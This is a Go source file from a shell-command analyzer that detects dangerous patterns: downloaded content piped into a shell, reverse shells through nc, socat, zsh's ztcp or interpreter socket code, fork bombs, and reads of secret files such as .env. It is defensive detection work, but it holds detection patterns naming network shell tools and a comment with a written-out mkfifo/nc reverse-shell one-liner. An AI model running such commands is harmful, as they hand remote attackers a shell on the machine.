package shell

import (
	"strings"
	"unicode/utf8"

	"mvdan.cc/sh/v3/syntax"
)

func joinWords(args []Word) *Word {
	if len(args) == 0 {
		return nil
	}
	w := Word{Literal: true}
	parts := make([]string, len(args))
	for i, a := range args {
		parts[i] = a.Value
		w.Literal = w.Literal && a.Literal
	}
	w.Value = strings.Join(parts, " ")
	return &w
}

// runsCode says whether a program interprets code: a shell, an interpreter, source, trap.
func runsCode(prog string) bool {
	p := programs().lookup(prog)
	return p != nil && p.Code != nil
}

// readsCodeFromStdin reports whether a shell or interpreter takes its program from standard input: no
// inline program (-c, -e), no script or module (-m), no script operand, or an explicit - / -s.
// `python3 -m json.tool` does not.
func readsCodeFromStdin(c Command) bool {
	p := programs().lookup(c.Program)
	if p == nil || p.Code == nil || !p.Code.Stdin {
		return false
	}
	pa := parseArgs(p, c.Args, len(p.Code.Flags) > 0)
	cs := p.Code
	if len(pa.values(cs.Options)) > 0 || len(cs.Files) > 0 && pa.has(cs.Files) || len(cs.Flags) > 0 && pa.has(cs.Flags) {
		return false
	}
	if len(cs.Flags) > 0 && pa.has([]string{"-s"}) {
		return true
	}
	return len(pa.operands) == 0 || pa.operands[0].Value == "-"
}

// inside analyzes the calls inside a node (a substitution) on their own: their commands and effects.
func (z *analyzer) inside(n syntax.Node) *Analysis {
	inner := &analyzer{a: &Analysis{}, limits: z.limits, budget: z.budget, base: z.base}
	z.walk(n, func(n syntax.Node) bool {
		if st, ok := n.(*syntax.Stmt); ok {
			inner.redirects(st.Redirs) // $(< .env) reads .env as much as $(cat .env) does
		}
		if ce, ok := n.(*syntax.CallExpr); ok && len(ce.Args) > 0 {
			words := make([]Word, len(ce.Args))
			for i, w := range ce.Args {
				words[i] = resolve(w)
			}
			inner.command(words, nil, nil, MaxDepth-2)
		}
		return true
	})
	return inner.a
}

func anyOf(cmds []Command, pred func(Command) bool) bool {
	for _, c := range cmds {
		if pred(c) {
			return true
		}
	}
	return false
}

func isFetcher(c Command) bool {
	p := programs().lookup(c.Program)
	return p != nil && p.Fetches
}

func isCodeRunner(c Command) bool { return runsCode(c.Program) }

// pipeline finds downloaded content flowing into a shell or interpreter: curl … | sh.
func (z *analyzer) pipeline(b *syntax.BinaryCmd) {
	var stages []*syntax.Stmt
	var flatten func(s *syntax.Stmt)
	flatten = func(s *syntax.Stmt) {
		if bc, ok := s.Cmd.(*syntax.BinaryCmd); ok && (bc.Op == syntax.Pipe || bc.Op == syntax.PipeAll) {
			if z.piped == nil {
				z.piped = map[*syntax.BinaryCmd]bool{}
			}
			z.piped[bc] = true
			flatten(bc.X)
			flatten(bc.Y)
			return
		}
		stages = append(stages, s)
	}
	flatten(b.X)
	flatten(b.Y)
	z.piping(len(stages), func(i int, pred func(Command) bool) bool { return z.anyRecorded(stages[i], pred) })
}

// piping finds downloaded content flowing into a shell or interpreter along a pipeline's n stages;
// stage(i, pred) reports whether pred holds for a command of stage i.
func (z *analyzer) piping(n int, stage func(i int, pred func(Command) bool) bool) {
	fetched, shell := false, false
	for i := range n {
		if fetched && stage(i, readsCodeFromStdin) {
			z.finding(RemoteCode, "downloaded content is piped into a shell or interpreter")
			return
		}
		if stage(i, isFetcher) {
			if shell {
				// a shell reading its input here and writing to a network peer: with a fifo closing the
				// loop (mkfifo f; cat f | sh -i | nc host port > f), the peer drives the shell
				z.finding(ReverseShell, "a shell's output is piped to a network peer")
				return
			}
			fetched = true
		}
		if stage(i, readsCodeFromStdin) {
			shell = true
		}
	}
}

// substitutions follows the code a shell or interpreter is given through $(…) or <(…); the caller has found
// that the call runs one. Downloaded content is remote code; the literal output of echo or printf is code
// analyzed as if written in place; any other program's output is code known only at run time.
func (z *analyzer) substitutions(ce *syntax.CallExpr, via []string, depth int) {
	for _, w := range ce.Args[1:] {
		for _, part := range w.Parts {
			var n syntax.Node
			switch p := part.(type) {
			case *syntax.ProcSubst:
				n = p
			case *syntax.CmdSubst:
				n = p
			case *syntax.DblQuoted:
				for _, q := range p.Parts {
					if cs, ok := q.(*syntax.CmdSubst); ok {
						n = cs
					}
				}
			}
			if n == nil {
				continue
			}
			inner := z.inside(n)
			switch {
			case anyOf(inner.Commands, isFetcher):
				z.finding(RemoteCode, "a shell or interpreter runs downloaded content")
				return
			case len(inner.Commands) == 1 && isPrinter(inner.Commands[0]):
				if text, _ := printed(inner.Commands[0]); text != nil && text.Literal {
					if _, isProc := n.(*syntax.ProcSubst); isProc {
						z.parse(text.Value, appendVia(via, "<(…)"), depth+1)
					}
					continue
				}
				fallthrough
			default:
				if _, isProc := n.(*syntax.ProcSubst); isProc {
					z.finding(DynamicCode, "a shell or interpreter runs what another program writes")
				}
			}
		}
	}
}

func isPrinter(c Command) bool { return c.Program == "echo" || c.Program == "printf" }

// printed returns the text echo or printf prints, as far as it is known (echo's options left out, printf's
// \n a newline and its %s nothing), or false for another program.
func printed(c Command) (*Word, bool) {
	if c.Program != "echo" && c.Program != "printf" {
		return nil, false
	}
	args := c.Args
	for len(args) > 0 && c.Program == "echo" && len(args[0].Value) <= 3 && strings.HasPrefix(args[0].Value, "-") {
		args = args[1:]
	}
	if c.Program == "printf" && len(args) > 0 {
		return printfOutput(args), true
	}
	w := joinWords(args)
	if w == nil {
		return nil, true
	}
	// echo -e, and sh's echo always, read escapes: judged by the worst, they are read
	w.Value = decodeEscapes(w.Value)
	return w, true
}

// printfOutput is what printf prints: its format with escapes read (\x72, \162, \n) and its %s, %b, %c and
// %d filled from the arguments in turn.
func printfOutput(args []Word) *Word {
	format, rest := args[0], args[1:]
	w := &Word{Literal: format.Literal}
	var b strings.Builder
	f := decodeEscapes(format.Value)
	next := func() Word {
		if len(rest) == 0 {
			return Word{Literal: true}
		}
		a := rest[0]
		rest = rest[1:]
		return a
	}
	for i := 0; i < len(f); i++ {
		if f[i] != '%' || i+1 == len(f) {
			b.WriteByte(f[i])
			continue
		}
		j := i + 1
		for j < len(f) && strings.IndexByte("-+ #0123456789.", f[j]) >= 0 {
			j++ // flags, width and precision
		}
		if j == len(f) {
			break
		}
		switch f[j] {
		case '%':
			b.WriteByte('%')
		case 's', 'q', 'd', 'i', 'u', 'x', 'o':
			a := next()
			w.Literal = w.Literal && a.Literal
			b.WriteString(a.Value)
		case 'b':
			a := next()
			w.Literal = w.Literal && a.Literal
			b.WriteString(decodeEscapes(a.Value))
		case 'c':
			a := next()
			w.Literal = w.Literal && a.Literal
			if a.Value != "" {
				b.WriteByte(a.Value[0])
			}
		}
		i = j
	}
	w.Value = b.String()
	return w
}

// decodeEscapes reads the backslash escapes printf's format, echo -e and %b read: \n, \t, \\, \xHH, and
// octal \NNN and \0NNN.
func decodeEscapes(s string) string {
	if !strings.Contains(s, `\`) {
		return s
	}
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		if s[i] != '\\' || i+1 == len(s) {
			b.WriteByte(s[i])
			continue
		}
		i++
		switch c := s[i]; {
		case c == 'n':
			b.WriteByte('\n')
		case c == 't':
			b.WriteByte('\t')
		case c == 'r':
			b.WriteByte('\r')
		case c == '\\':
			b.WriteByte('\\')
		case c == 'x':
			v, n := 0, 0
			for n < 2 && i+1 < len(s) && isHex(s[i+1]) {
				v = v*16 + hexValue(s[i+1])
				i++
				n++
			}
			if n == 0 {
				b.WriteString(`\x`)
				continue
			}
			b.WriteByte(byte(v))
		case c >= '0' && c <= '7':
			v, n := int(c-'0'), 1
			if c == '0' {
				v, n = 0, 0 // \0NNN: echo's octal
			}
			for n < 3 && i+1 < len(s) && s[i+1] >= '0' && s[i+1] <= '7' {
				v = v*8 + int(s[i+1]-'0')
				i++
				n++
			}
			b.WriteByte(byte(v))
		default:
			b.WriteByte('\\')
			b.WriteByte(c)
		}
	}
	if !utf8.ValidString(b.String()) {
		return strings.ToValidUTF8(b.String(), Unknown) // as $'…' does: a byte that is no text is unknown
	}
	return b.String()
}

func hexValue(c byte) int {
	if c <= '9' {
		return int(c - '0')
	}
	return int(c|0x20-'a') + 10
}

// substitutionData returns the files the commands inside the substitutions of words read: what a sender
// given $(cat .env), @<(cat .env) or <<< "$(cat .env)" sends.
func (z *analyzer) substitutionData(words []*syntax.Word) []Word {
	var out []Word
	for _, w := range words {
		z.walk(w, func(n syntax.Node) bool {
			switch n.(type) {
			case *syntax.CmdSubst, *syntax.ProcSubst:
				for _, e := range z.inside(n).Effects {
					if e.Kind == Reads {
						out = append(out, e.Targets...)
					}
				}
				return false
			}
			return true
		})
	}
	return out
}

// funcDecl finds a fork bomb: a function that calls itself in a pipeline or in the background.
func (z *analyzer) funcDecl(fd *syntax.FuncDecl) {
	if fd.Name == nil || fd.Body == nil {
		return
	}
	name := fd.Name.Value
	calls, background := 0, false
	z.walk(fd.Body, func(n syntax.Node) bool {
		switch n := n.(type) {
		case *syntax.Stmt:
			if n.Background && z.callsName(n, name) {
				background = true
			}
		case *syntax.CallExpr:
			if len(n.Args) > 0 && resolve(n.Args[0]).Value == name {
				calls++
			}
		}
		return true
	})
	if calls >= 2 || background {
		z.finding(ForkBomb, "a function that starts copies of itself")
	}
}

func (z *analyzer) callsName(s *syntax.Stmt, name string) bool {
	found := false
	z.walk(s, func(n syntax.Node) bool {
		if ce, ok := n.(*syntax.CallExpr); ok && len(ce.Args) > 0 && resolve(ce.Args[0]).Value == name {
			found = true
		}
		return !found
	})
	return found
}

// reverseShell finds programs started to hand a shell to the network.
func (z *analyzer) reverseShell(prog string, args []Word) {
	switch prog {
	case "nc", "ncat", "netcat":
		for _, a := range args {
			v := a.Value
			if v == "--exec" || v == "--sh-exec" || strings.HasPrefix(v, "--exec=") || strings.HasPrefix(v, "--sh-exec=") ||
				strings.HasPrefix(v, "-") && !strings.HasPrefix(v, "--") && strings.ContainsAny(v[1:], "ec") {
				z.finding(ReverseShell, prog+" runs a program for the network peer")
				return
			}
		}
	case "ztcp":
		// zsh's TCP module: the connection it opens (or accepts) is a file descriptor the line can hand
		// to any program, as bash's /dev/tcp is; -c closes one and -L lists them.
		pa := parseArgs(nil, args, false)
		if len(pa.operands) > 0 && !pa.has([]string{"-c", "-L"}) {
			z.finding(ReverseShell, "zsh's ztcp opens a network socket as a file descriptor")
			return
		}
	case "socat":
		for _, a := range args {
			v := strings.ToLower(a.Value)
			if strings.Contains(v, "exec:") || strings.Contains(v, "system:") {
				z.finding(ReverseShell, "socat runs a program for the network peer")
				return
			}
		}
	default:
		if !runsCode(prog) {
			return
		}
		for _, a := range args {
			// Any language's socket (socket, fsockopen, TCPSocket, net.connect) and any way of starting a
			// shell on it (dup2, a pty, /bin/sh, exec, popen, spawn), in any case.
			v := strings.ToLower(a.Value)
			if containsAny(v, "socket", "sockopen", "net.connect", "createconnection", "tcp_connect") &&
				containsAny(v, "dup2", "pty", "/bin/sh", "/bin/bash", "/bin/zsh", "subprocess", "exec", "popen", "spawn", "system(") {
				z.finding(ReverseShell, prog+" opens a socket and hands it a shell")
				return
			}
		}
	}
}

// containsAny reports whether s holds any of the substrings.
func containsAny(s string, subs ...string) bool {
	for _, sub := range subs {
		if strings.Contains(s, sub) {
			return true
		}
	}
	return false
}
